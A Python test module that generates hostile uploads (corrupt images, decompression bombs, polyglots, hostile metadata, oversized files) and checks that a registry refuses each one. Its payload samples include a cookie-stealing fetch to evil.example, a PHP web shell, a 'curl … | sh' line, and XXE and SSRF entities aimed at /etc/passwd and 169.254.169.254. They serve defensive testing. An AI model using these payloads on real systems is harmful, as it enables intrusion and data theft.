"""A hostile-upload suite: over a thousand generated uploads, every one of which must be refused.

Truncated and corrupt images, huge declared dimensions, real decompression bombs, polyglots, wrong
extensions, empty and oversized files, texts that are not UTF-8, hostile metadata (huge blocks,
compressed bombs, XML with entities, deep nesting, looping EXIF) and too many form parts, posted
through the real filing form by a signed-in creator (and a sample through the JSON API).

Every case is invalid by construction. A flipped byte in a PNG breaks a chunk checksum, but JPEG
and WebP carry none: a flip in their entropy-coded data can leave a valid, merely different
picture, so their corruptions are structural (markers, lengths, signatures) instead. Each case
names the specific messages that may answer it; the answer must be a 4xx (or the form shown again)
carrying one of them, never a 500, and no row in any table and no file may be left behind.

The full set runs on SQLite, a stratified tenth on PostgreSQL. The counts per family and the
outcomes are printed (``pytest -s``) and recorded as the test's properties.
"""

from __future__ import annotations

import base64
import functools
import html
import io
import json
import random
import re
import struct
import time
import unicodedata
import zipfile
import zlib
from collections import Counter, defaultdict
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import pytest
from PIL import Image
from sqlalchemy import inspect as sa_inspect
from sqlalchemy import text as sql

from registry.services import tokens
from tests.conftest import csrf_token
from tests.factories import (
    ESSAY,
    ESSAY_ZH,
    POEM,
    declaration,
    encoded,
    make_user,
    scene,
    text_declaration,
)
from tests.fuzz.seeds import (
    jpeg_segment,
    jpeg_with_scans,
    multi_picture,
    png_chunk,
    riff_chunk,
    ultra_hdr,
)
from tests.harness.server import API_DECLARATION, API_LITERARY
from tests.web.forms import form_fields

SEED = 20260517
# The limits the `app` fixture sets (tests/conftest.py); the test checks they still hold.
DEPOSIT_LIMIT = 2 * 1024 * 1024
REQUEST_LIMIT = 3 * 1024 * 1024
TEXT_LIMIT = 256 * 1024
PIXEL_LIMIT = 4_000_000
MAX_FORM_PARTS = 500

# ---- the messages a person may be shown (each specific to its fault) ---------------------------

TRUNCATED = "the file ends before the image does"
DAMAGED = "The image is damaged or incomplete"
NOT_IMAGE = "The file is not a JPEG, PNG or WebP image"
TEXT_NOT_IMAGE = "This file is a text, but the category you chose is deposited as an image"
IMAGE_NOT_TEXT = "This file is an image, but the category you chose is deposited as a text"
PIXELS = "pixels; the limit is 4 million pixels"
BOMB = "declares more pixels than the limit of 4 million pixels (it may be a decompression bomb)"
TRAILING = "of other data after the end of the image"
EMPTY_FILE = "The file is empty."
EMPTY_TEXT = "The text is empty."
NO_DEPOSIT = "Attach the work itself"
OVER_FILE = "The file is larger than the limit of 2 MB."
OVER_REQUEST = "The upload was larger than this registry accepts"
TOO_MANY_PARTS = "too many fields or parts"
OVER_TEXT = "the limit for texts is 256 KB"
UTF8 = "The text is not valid UTF-8 (at byte"
UTF16 = "it is saved as UTF-16"
CONTROL = "The text contains control characters"
REPLACED = "it was not sent as valid UTF-8"
META_BLOCK = "one metadata block may be at most 1 MB"
META_BOMB = "metadata unpacks to more than 1 MB"
META_TOTAL = "The image carries more than 8 MB of metadata"
META_COUNT = "The image carries more than 1,000 metadata blocks"
META_DTD = "metadata declares a DTD or entities"
META_DEEP = "metadata is nested more than 100 levels deep"
EXIF_LOOP = "its directories point back to one already read, in a loop"
EXIF_HUGE = "entries (at most 1,000 are read)"
EXIF_CHAIN = "it chains more than 64 directories"
ROWS = "A filing lists at most"
ONE_FILE = "Attach one file:"
BOTH = "Either upload a file or paste the text, not both."
FIELD_LENGTH = "Field cannot be longer than"
SERVER_ERROR = "Something went wrong on our side"
SCANS = "written in more than 32 scans"
HIDDEN = "another file is hidden in the image"
MISMATCH = "what follows the first picture is not what its index lists"
PICTURES = "at most 8 are taken"
INVISIBLE = "The text has no visible characters"

IMAGE_OR_TEXT = (NOT_IMAGE, TEXT_NOT_IMAGE)


@dataclass(frozen=True)
class Case:
    family: str
    name: str
    expect: tuple[str, ...]  # one of these must be shown
    file: bytes | Callable[[], bytes] | None = None
    filename: str = "upload.png"
    category: str = "image"  # "image": a visual art declaration; "text": a literary one
    text: str | bytes | None = None  # pasted; bytes are sent as they are
    action: str = "submit"
    status: tuple[int, ...] = (422,)
    extra: tuple[tuple[str, object], ...] = ()  # more form parts
    replace: tuple[tuple[str, str], ...] = ()  # form fields sent with another value
    files: tuple[tuple[bytes, str], ...] = ()  # more deposit_file parts
    vague: bool = False  # the message is known to be generic

    def data(self) -> bytes | None:
        return self.file() if callable(self.file) else self.file


# ---- building blocks -----------------------------------------------------------------------------


@functools.cache
def base_image(fmt: str, variant: int = 0) -> bytes:
    """Small valid images: a few sizes and flavours per format."""
    size = [(64, 48), (120, 90), (200, 150)][variant % 3]
    img = scene(100 + variant, size)
    params: dict = {}
    if fmt == "JPEG" and variant % 2:
        params = {"progressive": True, "quality": 70}
    if fmt == "PNG" and variant % 3 == 1:
        img = img.convert("RGBA")
    if fmt == "PNG" and variant % 3 == 2:
        img = img.convert("P")
    if fmt == "WEBP" and variant % 2:
        params = {"lossless": True}
    if fmt in ("GIF", "BMP", "ICO", "PCX", "TGA", "PPM", "SGI", "QOI", "DDS", "PDF", "SPIDER"):
        img = img.convert("RGB")
    if fmt in ("MSP", "PALM", "XBM"):
        img = img.convert("1")
    return encoded(img, fmt, **params)


OTHER_FORMATS = [
    "GIF",
    "BMP",
    "TIFF",
    "ICO",
    "PCX",
    "TGA",
    "PPM",
    "SGI",
    "QOI",
    "DDS",
    "AVIF",
    "JPEG2000",
    "PDF",
    "SPIDER",
    "MSP",
    "PALM",
    "XBM",
    "EPS",
]


@functools.cache
def other_formats() -> tuple[str, ...]:
    """The other formats this Pillow can write (AVIF and JPEG 2000 depend on the build)."""
    usable = []
    for fmt in OTHER_FORMATS:
        try:
            base_image(fmt)
        except (OSError, ValueError, KeyError):
            continue
        usable.append(fmt)
    return tuple(usable)


EXTENSIONS = {
    "PNG": "png",
    "JPEG": "jpg",
    "WEBP": "webp",
    "GIF": "gif",
    "BMP": "bmp",
    "TIFF": "tif",
}
IMAGE_NAMES = ["work.png", "work.jpg", "work.jpeg", "work.webp", "IMG_0001.JPG", "scan.PNG"]


def _jpeg_layout(data: bytes) -> tuple[list[tuple[int, int]], int]:
    """(position, marker code) of each segment up to the first scan, and where its data starts."""
    segments, pos = [], 2
    while True:
        assert data[pos] == 0xFF, "an unexpected JPEG layout"
        code = data[pos + 1]
        length = int.from_bytes(data[pos + 2 : pos + 4], "big")
        segments.append((pos, code))
        pos += 2 + length
        if code == 0xDA:
            return segments, pos


def _png_with(chunks: list[bytes], base: bytes | None = None) -> bytes:
    data = base or base_image("PNG")
    at = data.index(b"IDAT") - 4
    return data[:at] + b"".join(chunks) + data[at:]


def _jpeg_with(segments: list[bytes], base: bytes | None = None) -> bytes:
    data = base or base_image("JPEG")
    return data[:2] + b"".join(segments) + data[2:]


def _webp_with(chunks: list[bytes]) -> bytes:
    """A lossy WebP in the extended format (VP8X) with ``chunks`` after its image."""
    simple = base_image("WEBP")
    width, height = Image.open(io.BytesIO(simple)).size
    header = bytes([0x0C, 0, 0, 0]) + (width - 1).to_bytes(3, "little")
    header += (height - 1).to_bytes(3, "little")
    body = b"WEBP" + riff_chunk(b"VP8X", header) + simple[12:] + b"".join(chunks)
    return b"RIFF" + struct.pack("<I", len(body)) + body


def _exif_ifd(order: str, entries: list[tuple[int, int, int, int]], next_ifd: int) -> bytes:
    e = "<" if order == "II" else ">"
    out = struct.pack(e + "H", len(entries))
    for tag, kind, count, value in entries:
        out += struct.pack(e + "HHII", tag, kind, count, value)
    return out + struct.pack(e + "I", next_ifd)


def _tiff(order: str, first: int = 8) -> bytes:
    return (
        order.encode()
        + struct.pack("<H" if order == "II" else ">H", 42)
        + struct.pack("<I" if order == "II" else ">I", first)
    )


SOFTWARE = (0x0131, 2, 2, int.from_bytes(b"x\0\0\0", "big"))


def exif_loop(rng: random.Random) -> tuple[str, bytes]:
    order = rng.choice(["II", "MM"])
    shape = rng.choice(["self", "pair", "exif-pointer", "gps-pointer", "interop-back", "ring"])
    if shape == "self":  # IFD0's next directory is IFD0
        return shape, _tiff(order) + _exif_ifd(order, [SOFTWARE], 8)
    if shape == "pair":  # IFD0 -> IFD1 -> IFD0
        ifd1 = 8 + 2 + 12 + 4
        return shape, _tiff(order) + _exif_ifd(order, [SOFTWARE], ifd1) + _exif_ifd(order, [], 8)
    if shape in ("exif-pointer", "gps-pointer"):  # a sub-directory pointer back to IFD0
        tag = 0x8769 if shape == "exif-pointer" else 0x8825
        return shape, _tiff(order) + _exif_ifd(order, [SOFTWARE, (tag, 4, 1, 8)], 0)
    if shape == "interop-back":  # IFD0 -> Exif IFD -> Interop IFD -> Exif IFD
        exif_at = 8 + 2 + 24 + 4
        interop_at = exif_at + 2 + 12 + 4
        return shape, (
            _tiff(order)
            + _exif_ifd(order, [SOFTWARE, (0x8769, 4, 1, exif_at)], 0)
            + _exif_ifd(order, [(0xA005, 4, 1, interop_at)], 0)
            + _exif_ifd(order, [], exif_at)
        )
    k = rng.randint(3, 40)  # a ring of k directories
    size = 2 + 4
    blob = _tiff(order)
    for i in range(k):
        nxt = 8 + size * (i + 1) if i < k - 1 else 8 + size * rng.randrange(k)
        blob += _exif_ifd(order, [], nxt)
    return f"ring-{k}", blob


def exif_huge(rng: random.Random) -> tuple[str, bytes]:
    order = rng.choice(["II", "MM"])
    count = rng.choice([1001, 1500, 4096, 30000, 65535, rng.randint(1001, 65535)])
    present = min(count, rng.choice([0, 10, 1001, 2000]))  # entries actually written
    e = "<" if order == "II" else ">"
    body = struct.pack(e + "H", count) + b"".join(
        struct.pack(e + "HHII", 0x9000 + i % 4000, 7, 4, i) for i in range(present)
    )
    return f"entries-{count}", _tiff(order) + body + b"\0\0\0\0"


def exif_chain(rng: random.Random) -> tuple[str, bytes]:
    order = rng.choice(["II", "MM"])
    n = rng.randint(65, 400)
    blob = _tiff(order)
    for i in range(n):
        blob += _exif_ifd(order, [], 8 + 6 * (i + 1) if i < n - 1 else 0)
    return f"chain-{n}", blob


XMP_OPEN = (
    '<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF '
    'xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"><rdf:Description rdf:about="" '
    'xmlns:dc="http://purl.org/dc/elements/1.1/" '
    'xmlns:xmp="http://ns.adobe.com/xap/1.0/">'
)
XMP_CLOSE = "</rdf:Description></rdf:RDF></x:xmpmeta>"
XPACKET = '<?xpacket begin="\ufeff" id="W5M0MpCehiHzreSzNTczkc9d"?>'


def xmp_hostile(rng: random.Random, *, room: int) -> tuple[str, bytes]:
    """XMP that declares entities or a DTD, or nests too deep; at most ``room`` bytes."""
    kind = rng.choice(
        ["laughs", "quadratic", "file", "http", "parameter", "external-dtd", "deep", "deep-bag"]
    )
    doctype, inner = "", "<dc:title>x</dc:title>"
    if kind == "laughs":
        levels, fan = rng.randint(3, 10), rng.randint(2, 10)
        ents = '<!ENTITY lol0 "lol">' + "".join(
            f'<!ENTITY lol{i} "{f"&lol{i - 1};" * fan}">' for i in range(1, levels + 1)
        )
        doctype, inner = f"<!DOCTYPE x:xmpmeta [{ents}]>", f"<dc:title>&lol{levels};</dc:title>"
    elif kind == "quadratic":
        big = "A" * rng.randint(1000, min(40_000, room // 3))
        doctype = f'<!DOCTYPE x:xmpmeta [<!ENTITY a "{big}">]>'
        inner = "<dc:title>" + "&a;" * rng.randint(100, 2000) + "</dc:title>"
    elif kind == "file":
        target = rng.choice(["file:///etc/passwd", "file:///proc/self/environ", "/dev/random"])
        doctype = f'<!DOCTYPE x:xmpmeta [<!ENTITY xxe SYSTEM "{target}">]>'
        inner = "<dc:title>&xxe;</dc:title>"
    elif kind == "http":
        doctype = '<!DOCTYPE x:xmpmeta [<!ENTITY xxe SYSTEM "http://169.254.169.254/latest/">]>'
        inner = "<xmp:CreatorTool>&xxe;</xmp:CreatorTool>"
    elif kind == "parameter":
        doctype = (
            '<!DOCTYPE x:xmpmeta [<!ENTITY % remote SYSTEM "http://evil.example/x.dtd">%remote;]>'
        )
    elif kind == "external-dtd":
        doctype = '<!DOCTYPE x:xmpmeta SYSTEM "http://evil.example/xmp.dtd">'
    elif kind == "deep":
        depth = rng.randint(101, max(102, min(100_000, room // 16)))
        inner = "<dc:a>" * depth + "x" + "</dc:a>" * depth
        kind = f"deep-{depth}"
    else:
        depth = rng.randint(101, max(102, min(20_000, room // 40)))
        inner = "<rdf:Bag><rdf:li>" * depth + "x" + "</rdf:li></rdf:Bag>" * depth
        kind = f"deep-bag-{depth}"
    packet = (XPACKET + doctype + XMP_OPEN + inner + XMP_CLOSE + '<?xpacket end="w"?>').encode()
    assert len(packet) <= room, (kind, len(packet))
    return kind, packet


def deep_json(rng: random.Random) -> str:
    depth = rng.randint(101, 150_000)
    shape = rng.choice(["lists", "objects", "mixed"])
    if shape == "lists":
        nested = "[" * depth + "]" * depth
    elif shape == "objects":
        nested = '{"a":' * depth + "1" + "}" * depth
    else:
        nested = '[{"a":' * (depth // 2 + 1) + "1" + "}]" * (depth // 2 + 1)
    return '{"Label": "1", "ContentProducer": "x", "nested": ' + nested + "}"


PAYLOADS = {
    "html": b"<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>\n",
    "js": b"/*!*/;fetch('https://evil.example/?c='+encodeURIComponent(document.cookie));\n",
    "php": b"<?php system($_GET['c']); __halt_compiler(); ?>\n",
    "pdf": (
        b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n1 0 obj<</Type/Catalog/OpenAction<</S/JavaScript"
        b"/JS(app.alert(1))>>>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n"
    ),
    "svg": b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>1</script></svg>',
    "sh": b"#!/bin/sh\ncurl https://evil.example/x | sh\n",
    "exe": b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + b"\xb8" + b"\x00" * 40,
}


@functools.cache
def zip_payload(with_manifest: bool) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
        if with_manifest:  # a JAR: the GIFAR trick
            z.writestr("META-INF/MANIFEST.MF", "Manifest-Version: 1.0\nMain-Class: X\n")
        z.writestr("index.html", PAYLOADS["html"])
    return out.getvalue()


def payload(rng: random.Random) -> tuple[str, bytes]:
    name = rng.choice([*PAYLOADS, "zip", "jar", "png", "jpeg"])
    if name in ("zip", "jar"):
        return name, zip_payload(name == "jar")
    if name in ("png", "jpeg"):
        return f"second-{name}", base_image(name.upper(), rng.randrange(3))
    return name, PAYLOADS[name]


def png_bomb(rng: random.Random) -> tuple[str, bytes]:
    """A complete, valid PNG whose pixels are zeros: tiny on disk, huge in memory."""
    mode, depth, colour, channels = rng.choice(
        [("1", 1, 0, 1), ("L", 8, 0, 1), ("RGB", 8, 2, 3), ("RGBA16", 16, 6, 4), ("P", 8, 3, 1)]
    )
    least = PIXEL_LIMIT * channels * depth // 8  # bytes of raw pixel data just over the limit
    budget = max(rng.choice([8_000_000, 20_000_000, 50_000_000]), 2 * least)
    while True:
        width = rng.randint(2_001, 40_000)
        height = rng.randint(max(1, PIXEL_LIMIT // width + 1), PIXEL_LIMIT // width * 4 + 2)
        row = (width * channels * depth + 7) // 8
        if width * height > PIXEL_LIMIT and (row + 1) * height <= budget:
            break
    packer = zlib.compressobj(9)
    step = max(1, 4_000_000 // (row + 1))  # rows compressed at a time
    rows = b"\0" * ((row + 1) * step)
    idat = b"".join(packer.compress(rows) for _ in range(height // step))
    idat += packer.compress(b"\0" * ((row + 1) * (height % step))) + packer.flush()
    chunks = [png_chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, depth, colour, 0, 0, 0))]
    if colour == 3:
        chunks.append(png_chunk(b"PLTE", b"\0\0\0"))
    chunks += [png_chunk(b"IDAT", idat), png_chunk(b"IEND", b"")]
    return f"png-{mode}-{width}x{height}", b"\x89PNG\r\n\x1a\n" + b"".join(chunks)


@functools.cache
def solid_bomb(fmt: str, width: int, height: int) -> bytes:
    params = {"lossless": True} if fmt == "WEBP" else {"quality": 30} if fmt == "JPEG" else {}
    return encoded(Image.new("RGB", (width, height), (12, 34, 56)), fmt, **params)


TEXTS = {
    "poem": POEM,
    "essay": ESSAY,
    "essay-zh": ESSAY_ZH,
    "french": "Café crème, brûlée à la française : « déjà vu », naïveté, cœur.\n" * 3,
    "russian": "Гавань просыпается раньше города. Чайки летят за лодками.\n" * 3,
    "japanese": "港は町より早く目を覚ます。漁船が灰色の光の中で出ていく。\n" * 3,
    "korean": "항구는 마을보다 먼저 깨어난다. 갈매기들이 배를 따라간다.\n" * 3,
    "greek": "Το λιμάνι ξυπνά πριν από την πόλη. Οι γλάροι ακολουθούν.\n" * 3,
}
LEGACY = [
    "latin-1",
    "cp1252",
    "gbk",
    "gb18030",
    "big5",
    "shift_jis",
    "euc-jp",
    "euc-kr",
    "koi8-r",
    "cp1251",
    "iso-8859-7",
    "mac_roman",
]
INVALID_UTF8 = [
    b"\x80",
    b"\xbf",
    b"\xc0\xaf",
    b"\xc1\xbf",
    b"\xe0\x80\xaf",
    b"\xed\xa0\x80",
    b"\xed\xbf\xbf",
    b"\xf4\x90\x80\x80",
    b"\xf5\x80\x80\x80",
    b"\xf8\x88\x80\x80\x80",
    b"\xfe",
    b"\xff",
    b"\xe4\xb8",
    b"\xc3",
]


# Characters that are letters or marks to Unicode but show nothing: Hangul fillers, the blank
# Braille pattern, the combining grapheme joiner, Khmer's inherent vowels, variation selectors.
BLANK = {*"\u3164\u115f\u1160\uffa0\u2800\u034f\u17b4\u17b5"} | {
    chr(c) for c in [*range(0xFE00, 0xFE10), *range(0xE0100, 0xE01F0)]
}


def is_plain_utf8_text(data: bytes) -> bool:
    """What the registry accepts as a text, said independently: UTF-8 (a BOM allowed), no control
    characters but tab, newlines (U+0085 among them) and form feed, something visible (not
    white space, nor a format character such as a zero-width space or a direction mark)."""
    try:
        text = data.removeprefix(b"\xef\xbb\xbf").decode("utf-8")
    except UnicodeDecodeError:
        return False
    controls = {chr(c) for c in [*range(0x20), *range(0x7F, 0xA0)]} - set("\t\n\r\f\x85")
    visible = any(
        not ch.isspace() and unicodedata.category(ch) != "Cf" and ch not in BLANK for ch in text
    )
    return not any(ch in controls for ch in text) and visible


# ---- the generator -------------------------------------------------------------------------------


def _truncated(rng: random.Random) -> list[Case]:
    cases = []
    magic = {"PNG": 8, "JPEG": 3, "WEBP": 12}
    for fmt in ["PNG", "JPEG", "WEBP", "GIF", "TIFF", "BMP"]:
        for i in range(32):
            data = base_image(fmt, i % 3)
            cut = rng.choice(
                [rng.randrange(1, len(data)), rng.randrange(len(data) - 40, len(data))]
            )
            expect = (TRUNCATED,) if cut >= magic.get(fmt, 10**9) else IMAGE_OR_TEXT
            cases.append(
                Case(
                    "truncated",
                    f"{fmt.lower()}-cut-{cut}-of-{len(data)}",
                    expect,
                    data[:cut],
                    f"cut.{EXTENSIONS[fmt]}",
                    action=rng.choice(["submit", "save"]),
                )
            )
    return cases


def _corrupt(rng: random.Random) -> list[Case]:
    cases = []
    for i in range(80):  # PNG: any flipped byte breaks a chunk's CRC (or its framing)
        data = bytearray(base_image("PNG", i % 3))
        flips = rng.randint(1, 6)
        low = 0 if i % 10 == 0 else 8
        for _ in range(flips):
            data[rng.randrange(low, len(data))] ^= rng.randrange(1, 256)
        cases.append(
            Case("corrupt", f"png-{flips}-flips", (DAMAGED, NOT_IMAGE), bytes(data), "flip.png")
        )
    for i in range(70):  # JPEG: break the structure itself
        data = base_image("JPEG", i % 3)
        segments, scan = _jpeg_layout(data)
        kind = rng.choice(["reserved-marker", "long-length", "short-length", "marker-in-scan"])
        kind = rng.choice([kind, "second-soi", "no-eoi"])
        b = bytearray(data)
        if kind == "reserved-marker":
            pos, _ = rng.choice(segments)
            b[pos + 1] = rng.randrange(0x02, 0xC0)
        elif kind == "long-length":
            pos, _ = rng.choice(segments)
            b[pos + 2 : pos + 4] = struct.pack(">H", rng.randint(len(data) - pos, 0xFFFF))
        elif kind == "short-length":
            pos, _ = rng.choice(segments)
            b[pos + 2 : pos + 4] = struct.pack(">H", rng.choice([0, 1]))
        elif kind == "marker-in-scan":
            at = rng.randrange(scan, len(data) - 2)
            b[at:at] = bytes([0xFF, rng.randrange(0x02, 0xC0)])
        elif kind == "second-soi":
            pos, _ = rng.choice(segments[1:])
            b[pos:pos] = b"\xff\xd8"
        else:
            b[-2:] = rng.choice([b"\x00\x00", b"\xd9\xff", b"\x12\x34"])
        cases.append(Case("corrupt", f"jpeg-{kind}", (DAMAGED,), bytes(b), "broken.jpg"))
    for i in range(50):  # WebP: its RIFF framing, chunk headers and bitstream signatures
        data = base_image("WEBP", i % 2)
        b = bytearray(data)
        kind = rng.choice(["riff-size", "chunk-size", "fourcc", "form", "signature"])
        if kind == "riff-size":
            size = len(data) - 8 + rng.choice([rng.randint(1, 5000), -rng.randint(1, 200) * 2])
            b[4:8] = struct.pack("<I", max(0, size))
        elif kind == "chunk-size":
            size = int.from_bytes(data[16:20], "little")
            b[16:20] = struct.pack("<I", size + rng.choice([rng.randint(2, 900), -2, -4, -100]))
        elif kind == "fourcc":
            b[12:16] = rng.choice([b"VQ8 ", b"VP9 ", b"vp8l", b"JUNK", b"\x00\x00\x00\x00"])
        elif kind == "form":
            b[8:12] = rng.choice([b"WEBQ", b"AVI ", b"WAVE"])
        elif data[12:16] == b"VP8 ":
            b[23 + rng.randrange(3)] ^= rng.randrange(1, 256)  # the frame's start code
        else:
            b[20] ^= rng.randrange(1, 256)  # the lossless signature byte
        cases.append(Case("corrupt", f"webp-{kind}", (DAMAGED, NOT_IMAGE), bytes(b), "broken.webp"))
    for i in range(36):  # formats the registry does not take stay refused however broken
        fmt = ["GIF", "TIFF", "BMP"][i % 3]
        b = bytearray(base_image(fmt, i % 3))
        for _ in range(rng.randint(1, 8)):
            b[rng.randrange(len(b))] ^= rng.randrange(1, 256)
        name = rng.choice(IMAGE_NAMES)
        cases.append(Case("corrupt", f"{fmt.lower()}-flips", IMAGE_OR_TEXT, bytes(b), name))
    return cases


def _huge_dimensions(rng: random.Random) -> list[Case]:
    cases = []
    sizes = [
        (2**31 - 1, 2**31 - 1),
        (2**32 - 1, 1),
        (1, 2**32 - 1),
        (65_535, 65_535),
        (100_000, 100),
        (2_001, 2_000),
        (1, 5_000_000),
        (0, 48),
        (64, 0),
        (0, 0),
    ]
    for i in range(30):
        w, h = sizes[i] if i < len(sizes) else (rng.randint(1, 2**31 - 1), rng.randint(1, 99_999))
        if 0 < w * h <= PIXEL_LIMIT:
            h = PIXEL_LIMIT // w + 1
        data = base_image("PNG", i % 3)
        ihdr = data[16:29]
        fixed = png_chunk(b"IHDR", struct.pack(">II", w, h) + ihdr[8:])  # with its CRC fixed
        cases.append(
            Case(
                "huge-dimensions",
                f"png-ihdr-{w}x{h}",
                (PIXELS, BOMB, DAMAGED),
                data[:8] + fixed + data[33:],
                "huge.png",
            )
        )
    for i in range(15):
        data = bytearray(base_image("JPEG", i % 3))
        segments, _ = _jpeg_layout(bytes(data))
        pos = next(p for p, code in segments if code in (0xC0, 0xC2))
        w = rng.choice([65_535, rng.randint(2_001, 65_535)])
        h = max(PIXEL_LIMIT // w + 1, rng.randint(1, 65_535))
        data[pos + 5 : pos + 9] = struct.pack(">HH", h, w)
        cases.append(
            Case("huge-dimensions", f"jpeg-sof-{w}x{h}", (PIXELS, BOMB, DAMAGED), bytes(data))
        )
    for _ in range(10):
        data = bytearray(base_image("WEBP", 0))  # lossy: 14-bit sizes in the key frame header
        w, h = rng.randint(2_001, 16_383), rng.randint(2_001, 16_383)
        data[26:28] = struct.pack("<H", w)
        data[28:30] = struct.pack("<H", h)
        cases.append(
            Case("huge-dimensions", f"webp-vp8-{w}x{h}", (PIXELS, BOMB, DAMAGED), bytes(data))
        )
    for _ in range(5):
        w, h = rng.randint(2_001, 16_384), rng.randint(2_001, 16_384)
        simple = base_image("WEBP")
        header = bytes([0, 0, 0, 0]) + (w - 1).to_bytes(3, "little") + (h - 1).to_bytes(3, "little")
        body = b"WEBP" + riff_chunk(b"VP8X", header) + simple[12:]
        data = b"RIFF" + struct.pack("<I", len(body)) + body
        cases.append(Case("huge-dimensions", f"webp-canvas-{w}x{h}", (PIXELS, BOMB, DAMAGED), data))
    for i in range(5):
        gif = bytearray(base_image("GIF", i % 3))
        gif[6:10] = struct.pack("<HH", 65_535, 65_535)
        cases.append(Case("huge-dimensions", "gif-65535", IMAGE_OR_TEXT, bytes(gif), "huge.gif"))
    return cases


def _bombs(rng: random.Random) -> list[Case]:
    cases = []
    for _ in range(26):
        name, data = png_bomb(rng)
        cases.append(Case("decompression-bomb", name, (PIXELS, BOMB), data, "bomb.png"))
    for fmt, (w, h) in [
        ("WEBP", (3_000, 3_000)),
        ("WEBP", (16_383, 300)),
        ("WEBP", (2_100, 2_100)),
        ("JPEG", (2_100, 2_100)),
        ("JPEG", (4_000, 1_200)),
        ("PNG", (5_000, 1_000)),
    ]:
        data = solid_bomb(fmt, w, h)
        cases.append(
            Case("decompression-bomb", f"{fmt.lower()}-{w}x{h}", (PIXELS, BOMB), data, "x.img")
        )
    return cases


def _polyglots(rng: random.Random) -> list[Case]:
    cases = []
    for i in range(70):  # an image with another file appended
        fmt = ["PNG", "JPEG", "WEBP"][i % 3]
        kind, extra = payload(rng)
        data = base_image(fmt, rng.randrange(3)) + extra
        name = f"{fmt.lower()}+{kind}"
        cases.append(
            Case("polyglot", name, (TRAILING,), data, f"art.{EXTENSIONS[fmt]}", action="submit")
        )
    for i in range(10):  # GIF + JavaScript (a GIF whose header is also a script)
        gif = base_image("GIF", i % 3)
        data = b"GIF89a/*" + gif[8:] + b"*/=1;alert(document.domain);//"
        cases.append(Case("polyglot", "gif+js", IMAGE_OR_TEXT, data, "art.gif"))
    for _ in range(20):  # markup, scripts and documents wearing an image's name
        kind, data = rng.choice([(k, v) for k, v in PAYLOADS.items()] + [("zip", zip_payload(0))])
        prefix = rng.choice([b"", b"\x89PNG\r\n\x1a\n", b"\xff\xd8\xff\xe0", b"RIFF\0\0\0\0WEBP"])
        expect = IMAGE_OR_TEXT if not prefix else (DAMAGED, TRUNCATED, NOT_IMAGE)
        cases.append(
            Case("polyglot", f"{kind}-as-image", expect, prefix + data, rng.choice(IMAGE_NAMES))
        )
    return cases


def _wrong_extension(rng: random.Random) -> list[Case]:
    cases = []
    formats = other_formats()
    for i in range(50):  # formats the registry does not take, named as one it does
        fmt = formats[i % len(formats)]
        data = base_image(fmt, rng.randrange(3))
        cases.append(
            Case(
                "wrong-extension",
                f"{fmt.lower()}-named-{i}",
                IMAGE_OR_TEXT,
                data,
                rng.choice(IMAGE_NAMES),
                action=rng.choice(["submit", "save"]),
            )
        )
    for i in range(20):  # an image filed under a literary category, named as a text
        fmt = ["PNG", "JPEG", "WEBP"][i % 3]
        cases.append(
            Case(
                "wrong-extension",
                f"{fmt.lower()}-as-text",
                (IMAGE_NOT_TEXT,),
                base_image(fmt, i % 3),
                rng.choice(["poem.txt", "chapter.md", "novel.doc", "README"]),
                category="text",
            )
        )
    for _ in range(20):  # a text filed under visual art, named as an image
        name = rng.choice(list(TEXTS))
        cases.append(
            Case(
                "wrong-extension",
                f"{name}-as-image",
                (TEXT_NOT_IMAGE,),
                TEXTS[name].encode(),
                rng.choice(IMAGE_NAMES),
            )
        )
    return cases


def _empty(rng: random.Random) -> list[Case]:
    cases = []
    for name in ["e.png", "e.jpg", "e.webp", "e.txt", "e.gif", "noext", "e.PNG"]:
        for category in ("image", "text"):
            for action in ("submit", "save"):
                cases.append(
                    Case(
                        "empty",
                        f"0-bytes-{name}-{category}-{action}",
                        (EMPTY_FILE,),
                        b"",
                        name,
                        category=category,
                        action=action,
                    )
                )
    for data in [b" ", b"\n\n\n", b"\t \r\n", b"\xef\xbb\xbf", b"\xef\xbb\xbf \n", b"\f"]:
        cases.append(Case("empty", "blank-text-file", (EMPTY_TEXT,), data, "blank.txt", "text"))
    for text in ["", "   ", "\r\n\r\n", "\t"]:  # nothing pasted and no file: nothing to submit
        cases.append(Case("empty", "blank-paste", (NO_DEPOSIT,), text=text, category="text"))
    cases.append(Case("empty", "no-file-at-all", (NO_DEPOSIT,), file=None))
    cases.append(Case("empty", "file-part-without-name", (NO_DEPOSIT,), b"", ""))
    return cases


def _noise(seed: int, size: int, head: bytes = b"") -> Callable[[], bytes]:
    def make() -> bytes:
        return head + random.Random(seed).randbytes(size - len(head))

    return make


def _oversized(rng: random.Random) -> list[Case]:
    cases = []
    for i in range(14):  # over the deposit limit, under the request limit
        size = DEPOSIT_LIMIT + rng.choice([1, 2, 1000, rng.randint(1, REQUEST_LIMIT // 4)])
        head = rng.choice([b"", b"\x89PNG\r\n\x1a\n", b"\xff\xd8\xff\xe0", b"GIF89a"])
        cases.append(
            Case(
                "oversized",
                f"file-{size}",
                (OVER_FILE,),
                _noise(i, size, head),
                "big.png",
                category=rng.choice(["image", "text"]),
            )
        )
    for i, size in enumerate([REQUEST_LIMIT + 1, 4 * 1024 * 1024, 8 * 1024 * 1024]):
        cases.append(
            Case(
                "oversized",
                f"request-{size}",
                (OVER_REQUEST,),
                _noise(100 + i, size),
                "big.jpg",
                status=(413,),
            )
        )
    for size in [TEXT_LIMIT + 1, TEXT_LIMIT + 4096, 600_000, 1_500_000, DEPOSIT_LIMIT]:
        words = ("The harbour does not remember him. " * (size // 35 + 1)).encode()[:size]
        cases.append(
            Case("oversized", f"text-file-{size}", (OVER_TEXT,), words, "long.txt", "text")
        )
    for size in [TEXT_LIMIT + 1, 300_000, 1_000_000, 2_500_000]:
        words = ("Gulls are other gulls. " * (size // 23 + 1))[:size]
        cases.append(Case("oversized", f"pasted-{size}", (OVER_TEXT,), text=words, category="text"))
